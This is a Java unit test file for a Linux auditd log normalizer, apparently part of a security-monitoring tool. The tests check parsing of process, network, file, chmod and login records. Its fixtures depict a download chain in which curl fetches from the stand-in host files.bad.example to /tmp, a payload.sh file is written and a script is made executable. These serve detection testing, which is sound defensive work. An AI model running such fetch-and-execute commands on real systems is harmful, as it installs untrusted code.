package io.clicktrail.normalizer.linux;

import static org.assertj.core.api.Assertions.assertThat;

import io.clicktrail.event.Event;
import io.clicktrail.event.EventKind;
import io.clicktrail.event.EventOutcome;
import io.clicktrail.normalizer.parse.EventFacts;
import io.clicktrail.normalizer.parse.TestNormalizer;
import io.clicktrail.normalizer.raw.Outcome;
import io.clicktrail.normalizer.raw.Reason;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class AuditdTextTest {

    private static final String HOST = "\"host\":{\"name\":\"lin-7.corp.example\",\"hostname\":\"lin-7.corp.example\","
            + "\"domain\":\"corp.example\",\"os\":{\"type\":\"linux\"}}";

    private final TestNormalizer reader = new TestNormalizer();

    @Test
    void readsAProcessStart() {
        assertThat(EventFacts.of(reader.event(AuditFixtures.EXECVE))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve",\
                "dataset":"linux.auditd"},%s,"user":{"name":"ada","id":"1000"},\
                "process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z",\
                "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" \
                https://files.bad.example/a","working_directory":"/home/ada",\
                "parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176},"session_id":"8"}}""".formatted(HOST));
    }

    @Test
    void readsAConnection() {
        assertThat(EventFacts.of(reader.event(AuditFixtures.CONNECT))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:05.802Z","event":{"action":"network_connection","code":"42",\
                "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221",\
                "pid":2221,"executable":"/usr/bin/curl","name":"curl","session_id":"8"},\
                "destination":{"ip":"203.0.113.9","port":443},\
                "network":{"direction":"egress"}}""".formatted(HOST));
    }

    @Test
    void readsAFileThatIsCreated() {
        assertThat(EventFacts.of(reader.event(AuditFixtures.OPEN))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:05.903Z","event":{"action":"file_write","code":"257",\
                "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221",\
                "pid":2221,"executable":"/usr/bin/curl","name":"curl","working_directory":"/home/ada",\
                "session_id":"8"},\
                "file":{"path":"/home/ada/Downloads/payload.sh","name":"payload.sh","extension":"sh"}}\
                """.formatted(HOST));
    }

    @Test
    void readsARenameAsAWriteWithItsSource() {
        assertThat(EventFacts.of(reader.event(AuditFixtures.RENAME))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:06.004Z","event":{"action":"file_write","code":"82",\
                "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:3001",\
                "pid":3001,"executable":"/usr/lib/firefox/firefox","name":"firefox","working_directory":"/home/ada",\
                "session_id":"8"},\
                "file":{"path":"/home/ada/Downloads/a.AppImage","name":"a.AppImage","extension":"appimage",\
                "original_path":"/home/ada/Downloads/a.AppImage.part"}}""".formatted(HOST));
    }

    @Test
    void readsAChangeOfModeOfAnotherArchitecture() {
        assertThat(EventFacts.of(reader.event(AuditFixtures.CHMOD))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:06.105Z","event":{"action":"file_mode","code":"53",\
                "dataset":"linux.auditd"},%s,"user":{"id":"0"},"process":{"entity_id":"lin-7.corp.example::2222",\
                "pid":2222,"executable":"/usr/bin/chmod","name":"chmod","working_directory":"/tmp"},\
                "file":{"path":"/tmp/a.sh","name":"a.sh","extension":"sh","mode":"0755"}}""".formatted(HOST));
    }

    @Test
    void readsALogin() {
        assertThat(EventFacts.of(reader.event(AuditFixtures.LOGIN))).isEqualTo("""
                {"@timestamp":"2026-03-02T10:00:00.100Z","event":{"action":"logon","code":"user_login",\
                "dataset":"linux.auditd"},%s,"user":{"name":"ada","id":"1000"},"client":{"ip":"10.1.2.17"},\
                "logon":{"type":10,"id":"8","ip":"10.1.2.17","begin":true}}""".formatted(HOST));
    }

    @Test
    void endsALineAtALineFeedAlone() {
        String odd = AuditFixtures.LOGIN.replace(" AUID=\"ada\"", " OTHER=\"a\u2028d\u0085a\" AUID=\"ada\"");

        assertThat(odd).isNotEqualTo(AuditFixtures.LOGIN);
        assertThat(reader.event(odd).getUser().getName()).isEqualTo("ada");
    }

    @Test
    void givesOneEventWhateverTheOrderOfItsLines() {
        String expected = EventFacts.of(reader.event(AuditFixtures.EXECVE));
        String id = reader.event(AuditFixtures.EXECVE).getEventId();
        for (int seed = 0; seed < 50; seed++) {
            List<String> lines = new ArrayList<>(AuditFixtures.EXECVE.lines().toList());
            lines.add(lines.get(seed % lines.size()));
            Collections.shuffle(lines, new Random(seed));

            Event event = reader.event(String.join("\n", lines));
            assertThat(EventFacts.of(event)).as("seed %d", seed).isEqualTo(expected);
            assertThat(event.getEventId()).as("seed %d", seed).isEqualTo(id);
        }
    }

    @Test
    void takesInterleavedEventsApart() {
        List<String> first = AuditFixtures.EXECVE.lines().toList();
        List<String> second = AuditFixtures.OPEN.lines().toList();
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < Math.max(first.size(), second.size()); i++) {
            text.append(i < first.size() ? first.get(i) + "\n" : "");
            text.append(i < second.size() ? second.get(i) + "\n" : "");
        }

        assertThat(reader.normalized(text.toString()).events())
                .extracting(Event::getKind)
                .containsExactly(EventKind.PROCESS_START, EventKind.FILE_WRITE);
    }

    @Test
    void keepsApartEventsOfTwoHostsThatShareATimeAndASerial() {
        String other = AuditFixtures.OPEN
                .replace("node=lin-7.corp.example", "node=lin-8.corp.example")
                .replace("1772445605.903:4713", "1772445605.701:4711");

        assertThat(reader.normalized(AuditFixtures.EXECVE + other).events())
                .extracting(event -> event.getHost().getName())
                .containsExactly("lin-7.corp.example", "lin-8.corp.example");
    }

    @Test
    void waitsWhereALineIsMissing() {
        List<String> lines = AuditFixtures.EXECVE.lines().toList();
        for (int missing = 0; missing < lines.size(); missing++) {
            if (missing == 2) {
                continue;
            }
            List<String> rest = new ArrayList<>(lines);
            rest.remove(missing);

            Outcome outcome = reader.read(String.join("\n", rest));
            assertThat(outcome).as(lines.get(missing)).isInstanceOf(Outcome.Partial.class);
            assertThat(((Outcome.Partial) outcome).pieces()).hasSize(lines.size() - 1);
        }
    }

    @Test
    void readsLinesBehindASyslogHeaderAndTakesTheHostFromIt() {
        String syslog = AuditFixtures.EXECVE
                .replace("node=lin-7.corp.example ", "")
                .lines()
                .map(line -> "<134>Mar  2 10:00:05 lin-9 audispd: " + line)
                .reduce("", (a, b) -> a + b + "\n");

        Event event = reader.event(syslog);
        assertThat(event.getHost().getName()).isEqualTo("lin-9");
        assertThat(event.getProcess().getEntityId()).isEqualTo("lin-9:8:2221");
    }

    @Test
    void readsTheKernelsOwnPrintAndTypesThatTheDaemonDoesNotKnow() {
        String kernel = AuditFixtures.EXECVE
                .replace(
                        "node=lin-7.corp.example type=SYSCALL msg=audit",
                        "<5>Mar  2 10:00:05 lin-9 kernel: audit: type=1300 audit")
                .replace("node=lin-7.corp.example type=", "<5>Mar  2 10:00:05 lin-9 auditd: type=")
                .replace("type=PROCTITLE", "type=UNKNOWN[1327]");

        assertThat(reader.event(kernel).getKind()).isEqualTo(EventKind.PROCESS_START);
    }

    @Test
    void decodesHexOnlyWhereTheKernelWouldHaveWrittenIt() {
        assertThat(AuditFields.decode("\"2F62\"")).isEqualTo("2F62");
        assertThat(AuditFields.decode("2F746D702F61C3A42062")).isEqualTo("/tmp/a\u00e4 b");
        assertThat(AuditFields.decode("4142")).isEqualTo("4142");
        assertThat(AuditFields.decode("cafe")).isEqualTo("cafe");
        assertThat(AuditFields.decode("top")).isEqualTo("top");
        assertThat(AuditFields.decode("(null)")).isNull();
        assertThat(AuditFields.decode("?")).isNull();
    }

    @Test
    void joinsAnArgumentOfSeveralRecords() {
        String text = AuditFixtures.EXECVE.replace(
                "argc=4 a0=\"curl\" a1=\"-o\" a2=2F746D702F6D79207265706F72742E7368 a3=\"https://files.bad.example/a\"",
                "argc=3 a0=\"sh\" a1=\"-c\" a2_len=12 a2[0]=C3A4\nnode=lin-7.corp.example type=EXECVE "
                        + "msg=audit(1772445605.701:4711): a2[1]=2062C3\nnode=lin-7.corp.example type=EXECVE "
                        + "msg=audit(1772445605.701:4711): a2[2]=A9");
        String cut = text.substring(0, text.lastIndexOf("node=lin-7.corp.example type=EXECVE"))
                + text.substring(text.indexOf("node=lin-7.corp.example type=CWD"));

        assertThat(reader.event(text).getProcess().getCommandLine()).isEqualTo("sh -c \"\u00e4 b\u00e9\"");
        assertThat(reader.read(cut)).isInstanceOf(Outcome.Partial.class);
    }

    @Test
    void takesTheEndOffAProgramThatIsDeleted() {
        String text = AuditFixtures.CONNECT.replace("exe=\"/usr/bin/curl\"", "exe=2F746D702F61202864656C6574656429");

        assertThat(reader.event(text).getProcess().getExecutable()).isEqualTo("/tmp/a");
        assertThat(reader.event(text).getProcess().getName()).isEqualTo("a");
    }

    @Test
    void readsSocketAddressesOfBothFamiliesRawAndEnriched() {
        String six = AuditFixtures.CONNECT.replace(
                "saddr=020001BBCB0071090000000000000000",
                "saddr=0A0001BB0000000020010DB800000000000000000000000100000000");
        String enriched = AuditFixtures.CONNECT.replace(
                "saddr=020001BBCB0071090000000000000000",
                "saddr=00\u001dSADDR={ saddr_fam=inet laddr=203.0.113.9 lport=443 }");
        String local = AuditFixtures.CONNECT.replace(
                "saddr=020001BBCB0071090000000000000000", "saddr=01002F72756E2F6E73636400");

        assertThat(reader.event(six).getDestination().getIp()).isEqualTo("2001:db8::1");
        assertThat(reader.event(enriched).getDestination().getIp()).isEqualTo("203.0.113.9");
        assertThat(reader.event(enriched).getDestination().getPort()).isEqualTo(443);
        assertThat(reader.ignored(local).dataset()).isEqualTo("linux.auditd");
    }

    @Test
    void tellsAConnectionThatFailedFromOneUnderWay() {
        assertThat(reader.event(AuditFixtures.CONNECT).getOutcome()).isEqualTo(EventOutcome.UNKNOWN);
        assertThat(reader.event(AuditFixtures.CONNECT.replace("exit=-115", "exit=-111"))
                        .getOutcome())
                .isEqualTo(EventOutcome.FAILURE);
    }

    @Test
    void doesNotReadOpeningForReadingAsAWrite() {
        String reading = AuditFixtures.OPEN.replace("a2=241", "a2=0").replace("nametype=CREATE", "nametype=NORMAL");
        String writing = AuditFixtures.OPEN.replace("a2=241", "a2=1").replace("nametype=CREATE", "nametype=NORMAL");

        assertThat(reader.ignored(reading).dataset()).isEqualTo("linux.auditd");
        assertThat(reader.event(writing).getKind()).isEqualTo(EventKind.FILE_WRITE);
    }

    @Test
    void leavesAPathAloneThatCountsFromAnotherDirectory() {
        String text = AuditFixtures.OPEN.replace("a0=ffffff9c", "a0=5");

        assertThat(reader.event(text).getFile().getPath()).isEqualTo("Downloads/payload.sh");
    }

    @Test
    void keepsABackslashAndAColonInAName() {
        String text = AuditFixtures.OPEN.replace("Downloads/payload.sh", "Downloads/a\\\\b:c.sh");

        assertThat(reader.event(text).getFile().getName()).isEqualTo("a\\\\b:c.sh");
        assertThat(reader.event(text).getFile().getForkName()).isNull();
    }

    @Test
    void ignoresCallsThatFailedAndRecordsOfOtherKinds() {
        assertThat(reader.ignored(AuditFixtures.OPEN.replace("success=yes", "success=no"))
                        .dataset())
                .isEqualTo("linux.auditd");
        assertThat(reader.ignored("type=CRED_ACQ msg=audit(1772445600.100:4701): pid=1 uid=0 auid=1000 ses=8")
                        .dataset())
                .isEqualTo("linux.audit.other");
        assertThat(reader.ignored("type=EOE msg=audit(1772445600.100:4701): ").dataset())
                .isEqualTo("linux.auditd");
    }

    @Test
    void rejectsALineWithoutAReadableTime() {
        assertThat(reader.rejected("type=SYSCALL msg=audit(now:1): a=b").reason())
                .isEqualTo(Reason.BAD_TIME);
    }
}
